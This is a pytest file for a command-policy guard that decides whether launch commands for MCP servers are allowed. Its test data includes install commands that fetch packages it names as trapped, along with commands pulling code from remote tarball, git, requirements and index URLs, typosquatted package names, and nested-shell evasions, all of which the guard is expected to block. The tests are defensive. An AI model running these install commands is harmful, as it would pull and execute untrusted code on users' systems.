"""Packages that are not what they are called: aliases, sources behind names, lists, indexes, options that stand in the way.

What counts is what would be installed. Beside each kind stands what people really run.
"""

from functools import cache

import pytest

from herma.policy.decision import Verdict, verdict
from herma.policy.entry.entry import Entry
from support.guard_content import entry_judge


@cache
def _judged(*words: str) -> Verdict:
    entry = {"command": words[0], "args": list(words[1:])}
    return verdict(entry_judge().judge_entry(Entry("server", entry, "")))


ADDRESS = "http://198.51.100.7/x"
# A package that was published with a trap, by its version.
NPM, PYPI = "postmark-mcp@1.0.16", "litellm==1.82.8"
NPM_RUNNERS = (
    "npx -y", "npx --loglevel error", "bunx", "bun x", "bun add", "pnpm dlx", "pnpx", "yarn dlx", "yarn add", "npm exec --yes --",
    "npm --loglevel silent exec", "npm install -g", "npx -p", "npx --package", "npm exec --package", "yarn dlx -p", "bunx --package",
    "node /usr/lib/node_modules/npm/bin/npm-cli.js exec",
)  # fmt: skip
NPM_NAMES = (
    NPM, f"x@npm:{NPM}", f"npm:x@npm:{NPM}", f"@a/b@npm:{NPM}", f"npm:{NPM}", f"x@{ADDRESS}.tgz", f"x@git+{ADDRESS}", "x@gist:0123456789abcdef",
    "x@file:/tmp/x", "x@npm:@modelcontextprotocoi/server-filesystem",
)  # fmt: skip
PYPI_RUNNERS = (
    "uvx", "uvx --from", "uvx --with", "uvx --verbosity 9", "uv tool run --from", "uv --cache-dir /x run --with", "uv pip install", "uv add",
    "pip3.12 install --quiet", "python3 -m pip install", "pipx run", "pipx run --spec", "pipx install", "poetry add", "pdm add", "pipenv install",
    "rye install",
)  # fmt: skip
PYPI_NAMES = (
    PYPI, f"mcp-server-time @ {ADDRESS}.whl", f"mcp-server-time@{ADDRESS}.whl", f"mcp-server-time[all]@git+{ADDRESS}", "mcp-sevrer-time",
)  # fmt: skip


@pytest.mark.parametrize(
    ("runners", "names"), [(NPM_RUNNERS, NPM_NAMES), (PYPI_RUNNERS, PYPI_NAMES)], ids=["npm", "pypi"]
)
def test_a_package_is_what_would_be_installed(runners: tuple[str, ...], names: tuple[str, ...]) -> None:
    """Whatever it is called here, whoever fetches it, and whichever options stand before it."""
    passed = [
        (runner, name)
        for runner in runners
        for name in names
        if _judged(*runner.split(), name, "known-server") is not Verdict.BLOCK
    ]
    assert passed == []


LISTS = {
    "a list of packages": ("uv", "run", "--with", f"mcp[cli],{PYPI}", "x"),
    "a package before the order": ("pnpm", "--package", f"x@npm:{NPM}", "dlx", "mcp-remote"),
    "a package before the order, joined": ("pnpm", f"--package=x@npm:{NPM}", "dlx", "mcp-remote"),
    "a module of npm": ("deno", "run", "-A", f"npm:x@npm:{NPM}"),
    "a module of npm with a slash": ("deno", "run", "-A", f"npm:/{NPM}"),
    "a map of modules": ("deno", "run", "-A", f"--import-map={ADDRESS}", "main.ts"),
    "requirements": ("pip", "install", "-r", ADDRESS),
    "requirements where all may write": ("pip", "install", "--requirement=/tmp/r.txt"),
    "limits": ("pip", "install", "-c", ADDRESS, "x"),
    "an editable repository": ("pip", "install", "-e", f"git+{ADDRESS}"),
    "an index with a name": ("uvx", "--index", f"corp={ADDRESS}", "x"),
    "an index for another program": ("pipx", "run", f"--pip-args=--index-url={ADDRESS}", "x"),
    "a registry of a scope": ("npx", f"--@foo:registry={ADDRESS}", "@foo/x"),
    "runners without end": ("sh", "-c", "npx " * 2000 + f"-y x@npm:{NPM}"),
}  # fmt: skip


@pytest.mark.parametrize("words", LISTS.values(), ids=LISTS.keys())
def test_every_way_to_name_a_package_counts(words: tuple[str, ...]) -> None:
    """Lists, options, maps, files and indexes."""
    assert _judged(*words) is Verdict.BLOCK


ORDINARY = (
    "npx -y @modelcontextprotocol/server-filesystem /srv",
    "npx -y --loglevel error mcp-remote https://mcp.example.com/sse",
    "npx -y my-server@file:./vendor/x",
    "pnpm --filter server dlx mcp-remote https://mcp.example.com/sse",
    "uvx --from mcp-server-time mcp-server-time --local-timezone UTC",
    "uvx --from git+https://github.com/oraios/serena serena start-mcp-server",
    "uvx mcp-openapi --constraint https://docs.example.com/limits",
    "uv run --with mcp[cli],httpx>=0.27,<1 server.py",
    "uv --directory /srv/x run --locked server.py",
    "deno run -A jsr:@pydantic/mcp-run-python stdio",
    "pip install -r requirements.txt",
    "npm create vite@latest",
    "poetry add httpx",
)


@pytest.mark.parametrize("line", ORDINARY)
def test_packages_of_every_day_pass(line: str) -> None:
    """By their names, from their registries, with options of all kinds."""
    assert _judged(*line.split()) is Verdict.ALLOW
